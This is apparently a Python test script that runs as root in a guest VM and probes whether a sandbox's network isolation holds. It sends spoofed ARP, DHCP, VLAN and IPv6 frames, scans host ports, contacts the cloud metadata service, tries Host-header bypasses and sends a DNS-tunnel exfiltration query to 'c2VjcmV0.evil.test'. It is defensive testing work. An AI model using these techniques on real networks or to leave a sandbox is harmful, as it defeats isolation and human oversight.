# What root in a guest tries, after what files/attacker.py has: $1 is the policy in force, then its own address, MAC and port at the
# host, the bridge's address, the neighbour's address and MAC. Says of each whether it held. Bounded: the longest takes some seconds.
import errno

policy, ip, mac, port, gateway, neighbour, neighbour_mac = sys.argv[1:8]
OUTSIDE, ALLOWED, LAN, METADATA = "203.0.113.10", "203.0.113.11", "10.99.0.5", "169.254.169.254"
MARK = b"fireclaw-attack"
DEVICE = next(name for name in os.listdir("/sys/class/net") if name != "lo")


def hexed(address):
    return bytes.fromhex(address.replace(":", ""))


def checksum(data):
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def ipv4(source, target, payload):
    head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(payload), 1, 0, 64, socket.IPPROTO_UDP, 0,
                       socket.inet_aton(source), socket.inet_aton(target))
    return head[:10] + struct.pack("!H", checksum(head)) + head[12:] + payload


def udp(sport, dport, payload):
    return struct.pack("!HHHH", sport, dport, 8 + len(payload), 0) + payload


def arp(operation, sender_mac, sender_ip, target_mac, target_ip):
    return struct.pack("!HHBBH", 1, 0x0800, 6, 4, operation) + hexed(sender_mac) + socket.inet_aton(sender_ip) \
        + hexed(target_mac) + socket.inet_aton(target_ip) + MARK


def frames():
    """Each with the name of what it is. The neighbour looks for the mark."""
    everybody, nobody = "ff:ff:ff:ff:ff:ff", "00:00:00:00:00:00"
    ethernet = lambda to, source, kind, payload: hexed(to) + hexed(source) + struct.pack("!H", kind) + payload
    plain = lambda source: ipv4(source, neighbour, udp(9, 9, MARK))
    yield "to the neighbour's MAC", ethernet(neighbour_mac, mac, 0x0800, plain(ip))
    yield "with the neighbour's MAC as its own", ethernet(everybody, neighbour_mac, 0x0800, plain(ip))
    yield "with a made-up MAC", ethernet(neighbour_mac, "06:fc:de:ad:be:ef", 0x0800, plain(ip))
    yield "with the bridge's address as its own", ethernet(neighbour_mac, mac, 0x0800, plain(gateway))
    yield "with the neighbour's address as its own", ethernet(neighbour_mac, mac, 0x0800, plain(neighbour))
    yield "with a stranger's address as its own", ethernet(neighbour_mac, mac, 0x0800, plain("198.51.100.7"))
    yield "ARP: the bridge is me", ethernet(everybody, mac, 0x0806, arp(2, mac, gateway, nobody, gateway))
    yield "ARP: the neighbour is me", ethernet(everybody, mac, 0x0806, arp(2, mac, neighbour, nobody, neighbour))
    yield "ARP to the neighbour alone", ethernet(neighbour_mac, mac, 0x0806, arp(2, mac, gateway, neighbour_mac, neighbour))
    yield "ARP from another MAC inside", ethernet(everybody, mac, 0x0806, arp(1, neighbour_mac, ip, nobody, gateway))
    yield "RARP", ethernet(everybody, mac, 0x8035, arp(3, mac, ip, mac, ip))
    yield "a VLAN tag", ethernet(neighbour_mac, mac, 0x8100, struct.pack("!HH", 1, 0x0800) + plain(ip))
    yield "a VLAN tag of zero", ethernet(neighbour_mac, mac, 0x8100, struct.pack("!HH", 0, 0x0800) + plain(ip))
    yield "two VLAN tags", ethernet(neighbour_mac, mac, 0x88A8, struct.pack("!HHHH", 1, 0x8100, 1, 0x0800) + plain(ip))
    icmp6 = lambda payload: struct.pack("!IHBB16s16s", 6 << 28, len(payload), socket.IPPROTO_ICMPV6, 255,
                                        socket.inet_pton(socket.AF_INET6, "fe80::1"),
                                        socket.inet_pton(socket.AF_INET6, "ff02::1")) + payload
    advertise = struct.pack("!BBHBBHII", 134, 0, 0, 64, 0, 1800, 0, 0) + MARK
    solicit = struct.pack("!BBHI16s", 135, 0, 0, 0, socket.inet_pton(socket.AF_INET6, "fe80::2")) + MARK
    neighbourly = struct.pack("!BBHI16s", 136, 0, 0, 0x60000000, socket.inet_pton(socket.AF_INET6, "fe80::1")) + MARK
    for name, payload in [("router advertisement", advertise), ("neighbour solicitation", solicit),
                          ("neighbour advertisement", neighbourly)]:
        yield "IPv6: a " + name, ethernet("33:33:00:00:00:01", mac, 0x86DD, icmp6(payload))
    yield "DHCP: who gives me an address", ethernet(everybody, mac, 0x0800,
                                                    ipv4("0.0.0.0", "255.255.255.255", udp(68, 67, MARK * 20)))
    yield "DHCP: I give you an address", ethernet(everybody, mac, 0x0800,
                                                  ipv4(ip, "255.255.255.255", udp(67, 68, MARK * 20)))
    yield "multicast DNS", ethernet("01:00:5e:00:00:fb", mac, 0x0800, ipv4(ip, "224.0.0.251", udp(5353, 5353, MARK)))
    yield "a broadcast to the subnet", ethernet(everybody, mac, 0x0800,
                                                ipv4(ip, gateway.rsplit(".", 1)[0] + ".255", udp(9, 9, MARK)))
    yield "spanning tree", hexed("0180c2000000") + hexed(mac) + struct.pack("!H", 3 + len(MARK)) + b"\x42\x42\x03" + MARK
    yield "LLDP", ethernet("01:80:c2:00:00:0e", mac, 0x88CC, MARK * 3)
    yield "an unknown kind of frame", ethernet(neighbour_mac, mac, 0x88B5, MARK * 3)
    yield "a kind that is too short to be one", ethernet(neighbour_mac, mac, 0x0800, MARK)


def public():
    if b"outside" not in exchange(OUTSIDE, 80):
        sys.exit("the way to the public internet does not work")
    for number in (22, 18789):
        said("the neighbour's port %d" % number, exchange(neighbour, number))
    said("the neighbour by ping", pinged(neighbour))
    host = open_ports(gateway, [*range(1, 900), 2375, 2376, 5355, 6443, 8080, 9090, *range(18780, 18910)]) - {int(port)}
    said("a thousand ports of the host", host, host or "")
    said("the host by its outer address", open_ports("203.0.113.1", [22, 80, 111]))
    said("the host by its address in the lab", open_ports("10.0.2.15", [22, 80, 111]))
    said("the metadata service", exchange(METADATA, 80))
    said("the LAN", exchange(LAN, 80))
    said("another LAN", exchange("192.168.77.5", 80))
    said("the LAN by UDP", datagram(LAN, 7))
    said("the LAN by ping", pinged(LAN))
    subprocess.run(["ip", "-6", "route", "add", "default", "dev", DEVICE], capture_output=True)
    said("the metadata service by IPv6", exchange("fd00:ec2::254", 80))
    subprocess.run(["ip", "route", "add", neighbour + "/32", "via", gateway])
    said("the neighbour by way of the host", exchange(neighbour, 18789))
    subprocess.run(["ip", "route", "del", neighbour + "/32"])
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as raw:
        raw.bind((DEVICE, 0))
        for name, frame in frames():
            for _ in range(3):
                try:
                    raw.send(frame)
                except OSError as error:
                    if error.errno != errno.EMSGSIZE:
                        raise
            print("sent", name, flush=True)
    before = time.monotonic()
    open_ports(OUTSIDE, [80] * 1000)
    print("sent 1000 connections in %.1f s" % (time.monotonic() - before), flush=True)


def allow():
    asked = b"GET / HTTP/1.1\r\nHost: allowed.test\r\nConnection: close\r\n\r\n"
    control("the allowed name", has_answer(datagram(gateway, 53, question("allowed.test"))))
    control("the allowed site", b"allowed" in exchange(ALLOWED, 80, asked))
    for name, send in [("by its address", b"GET / HTTP/1.1\r\nHost: 203.0.113.10\r\n\r\n"),
                       ("with an allowed name that is not its own", b"GET / HTTP/1.1\r\nHost: allowed.test\r\n\r\n"),
                       ("without a name", b"GET / HTTP/1.0\r\n\r\n"),
                       ("with two names", b"GET / HTTP/1.1\r\nHost: allowed.test\r\nHost: 203.0.113.10\r\n\r\n"),
                       ("with its name in pieces", [b"GET / HTTP/1.1\r\nHo", b"st: 203.0.113", b".10\r\n\r\n"])]:
        said("a forbidden site " + name, b"outside" in exchange(OUTSIDE, 80, send))
    said("a forbidden site without TLS at its port", b"outside" in exchange(OUTSIDE, 443))
    said("a port of DNS over TLS", exchange(OUTSIDE, 853))
    said("any other port", exchange(OUTSIDE, 8080))
    said("QUIC", datagram(OUTSIDE, 443) == b"marked\n")
    said("any other UDP", datagram(OUTSIDE, 8080))
    said("a foreign name server", has_answer(datagram(OUTSIDE, 53, question("c2VjcmV0.evil.test"))))
    said("a tunnel by names", has_answer(datagram(gateway, 53, question("c2VjcmV0.evil.test"))))
    said("the allowed site by its address", b"allowed" in exchange(ALLOWED, 80, b"GET / HTTP/1.1\r\nHost: 203.0.113.11\r\n\r\n"))
    said("ping", pinged(OUTSIDE))
    said("the metadata service", b"outside" in exchange(METADATA, 80, b"GET / HTTP/1.1\r\nHost: allowed.test\r\n\r\n"))
    said("the LAN", b"outside" in exchange(LAN, 80, b"GET / HTTP/1.1\r\nHost: allowed.test\r\n\r\n"))


{"public": public, "allow": allow}[policy]()
